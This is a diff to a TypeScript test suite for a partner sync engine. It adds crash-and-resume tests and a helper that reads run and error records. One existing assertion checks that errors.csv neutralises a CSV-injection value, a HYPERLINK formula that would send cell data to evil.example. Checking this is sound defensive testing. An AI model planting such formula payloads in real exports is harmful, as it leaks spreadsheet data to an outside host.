@@ -8,7 +8,7 @@ import { neutralise } from '../../src/common/csv';
 import { startLocalOrg, type LocalOrg } from '../../src/localorg/index';
 import { OrgClient } from '../../src/org/client';
 import { connectionFor } from '../../src/org/connection';
-import { runSync, type SyncResult } from '../../src/sync/engine';
+import { runSync, type SyncOptions, type SyncResult } from '../../src/sync/engine';
 import { loadPartnerFiles, loadReferralFiles } from '../../src/sync/fromConfig';
 import { defaultRetryPolicy } from '../../src/sync/retry';
 import { CheckpointStore } from '../../src/sync/state';
@@ -41,12 +41,20 @@ afterEach(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-function sync(store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`), client = new OrgClient(connectionFor(org.instanceUrl, org.accessToken), { retry: defaultRetryPolicy({ baseMs: 1, maxMs: 2, attempts: 8 }) })): Promise<SyncResult> {
+function sync(store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`), client = new OrgClient(connectionFor(org.instanceUrl, org.accessToken), { retry: defaultRetryPolicy({ baseMs: 1, maxMs: 2, attempts: 8 }) }), extra: Partial<SyncOptions> = {}): Promise<SyncResult> {
   const config = { ...localConfigSchema.parse({ partnerFiles: [{ partner: 'acme', file: 'acme.csv' }] }), baseDir: dir };
-  return runSync({ client, store, runsDir: path.join(dir, 'runs'), loadPartners: () => loadPartnerFiles(config), loadReferrals: () => loadReferralFiles([{ partner: 'acme', file: 'referrals.csv' }], dir), overlapSeconds: 0 });
+  return runSync({ client, store, runsDir: path.join(dir, 'runs'), loadPartners: () => loadPartnerFiles(config), loadReferrals: () => loadReferralFiles([{ partner: 'acme', file: 'referrals.csv' }], dir), overlapSeconds: 0, ...extra });
 }
 
 const mode = (file: string): number => statSync(file).mode & 0o777;
+
+/** The run record and its error rows as the org holds them, with this test's folder made neutral. */
+function runRecord(): unknown {
+  const runs = org.store.query('SELECT Mode__c, Status__c, Records_Read__c, Records_Matched__c, Records_Created__c, Records_Updated__c, Records_Failed__c, API_Calls_Used__c FROM Partner_Sync_Run__c').records;
+  const errors = org.store.query('SELECT External_Id__c, Object_Name__c, Record_Key__c, Error_Code__c, Message__c FROM Partner_Sync_Error__c ORDER BY External_Id__c').records;
+  const neutral = (v: unknown): unknown => (typeof v === 'string' ? v.replaceAll(dir, '<dir>').replace(/^run-[\w-]+:/, 'run:') : v);
+  return { runs: runs.map(({ attributes: _a, ...r }) => r), errors: errors.map(({ attributes: _a, Id: _i, ...e }) => Object.fromEntries(Object.entries(e).map(([k, v]) => [k, neutral(v)]))) };
+}
 
 describe('the files a sync writes', () => {
   it('are readable by their owner only: state.json, run.log, errors.csv and their folders', async () => {
@@ -63,7 +71,7 @@ describe('the files a sync writes', () => {
   it('errors.csv shows formula cells as text: every cell that would run starts with an apostrophe', async () => {
     const result = await sync();
     const rows = parse(readFileSync(result.errorsCsv!, 'utf8'), { columns: true }) as Record<string, string>[];
-    const keys = rows.map((r) => r.key);
+    const keys = rows.map((r) => r.key ?? '');
     expect(keys.some((k) => k.includes('HYPERLINK'))).toBe(true);
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
     expect(keys).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
@@ -79,6 +87,39 @@ describe('the files a sync writes', () => {
     const result = await sync();
     org.faults.clear();
     expect(readFileSync(result.runLog, 'utf8')).toMatch(/retry 1 of (GET|POST|PATCH) \/\S+: SERVER_UNAVAILABLE/);
+  });
+});
+
+describe('a run resumed after a crash records the whole run', () => {
+  // batches here: the overlaps, then the referral Lead (refused: website too long); crash after each
+  it.each([1, 2])('crash after batch %i, then resume: the same run record, error rows and totals as an uninterrupted run', async (crashAfterBatch) => {
+    const clean = await sync();
+    expect(clean.status).toBe('Partial');
+    const uninterrupted = runRecord() as { runs: Record<string, unknown>[]; errors: unknown[] };
+    expect(uninterrupted.errors).toHaveLength(4);
+    expect(uninterrupted.runs).toEqual([expect.objectContaining({ Status__c: 'Partial', Records_Failed__c: 4, Records_Created__c: 30 })]);
+
+    // the same input on a fresh org, crashing mid-write
+    await org.stop();
+    rmSync(path.join(dir, 'cp'), { recursive: true });
+    org = await startLocalOrg();
+    org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
+    for (let i = 0; i < 30; i++) org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
+    await expect(sync(undefined, undefined, { crashAfterBatch })).rejects.toThrow(/crash hook/);
+    expect(org.store.query('SELECT COUNT() FROM Partner_Sync_Run__c').totalSize).toBe(0);
+    const resumed = await sync();
+    expect(resumed.mode).toBe('Resume');
+    expect(resumed).toMatchObject({ status: 'Partial', counts: clean.counts, referrals: { flagged: clean.referrals.flagged, created: clean.referrals.created } });
+    expect(resumed.partnerSources).toEqual(clean.partnerSources);
+    const record = runRecord() as { runs: Record<string, unknown>[]; errors: unknown[] };
+    expect(record.errors).toEqual(uninterrupted.errors);
+    // every count but the mode, and the API calls of both attempts (at least the uninterrupted run's)
+    const { Mode__c: mode1, API_Calls_Used__c: calls1, ...rest1 } = uninterrupted.runs[0]!;
+    const { Mode__c: mode2, API_Calls_Used__c: calls2, ...rest2 } = record.runs[0]!;
+    expect([mode1, mode2]).toEqual(['Full', 'Resume']);
+    expect(rest2).toEqual(rest1);
+    expect(Number(calls2)).toBeGreaterThanOrEqual(Number(calls1));
+    expect(readFileSync(resumed.errorsCsv!, 'utf8').replaceAll(dir, '')).toBe(readFileSync(clean.errorsCsv!, 'utf8').replaceAll(dir, ''));
   });
 });
 
